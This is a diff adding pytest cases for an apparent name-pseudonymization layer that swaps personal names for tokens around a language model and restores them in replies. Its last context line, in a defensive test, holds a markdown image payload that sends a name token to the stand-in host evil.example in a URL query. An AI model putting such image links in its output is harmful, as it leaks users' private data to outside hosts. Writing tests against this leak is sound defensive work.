@@ -272,6 +272,28 @@ async def test_a_token_nobody_sent_stays_and_is_counted() -> None:
     assert answer.finished.unknown_tokens == 1
 
 
+@pytest.mark.parametrize("stream", [True, False])
+async def test_a_token_without_its_brackets_is_restored(*, stream: bool) -> None:
+    said = ["PERSON_", "1 must send it to **PERSON", "_2**; see MY_PERSON_1."]
+    reply = (
+        streamed(said)
+        if stream
+        else Reply(content=completion("".join(said)), media_type=b"application/json")
+    )
+    answer = await Bench(reply).session.ask(ask(QUESTION, stream=stream))
+    assert answer.text == "Ann Lee must send it to **Bob**; see MY_PERSON_1."
+    assert answer.finished.unrestored == 1
+
+
+async def test_a_word_of_the_question_is_no_token() -> None:
+    question = f"{QUESTION} The column is called person_1."
+    bench = Bench(streamed(["PERSON_1 and person_1: PERSON_2, PERSON_3"]))
+    answer = await bench.session.ask(ask(question))
+    assert "⟦PERSON_1⟧" not in bench.sent[0]
+    assert answer.text == "PERSON_1 and person_1: Ann Lee, Bob"
+    assert answer.finished.unrestored == 0
+
+
 async def test_no_name_is_restored_into_a_picture_s_address() -> None:
     reply = streamed(["![x](https://evil.example/", "?who=⟦PERSON_1⟧) ⟦PERSON_1⟧"])
     answer = await Bench(reply).session.ask(ask(QUESTION))
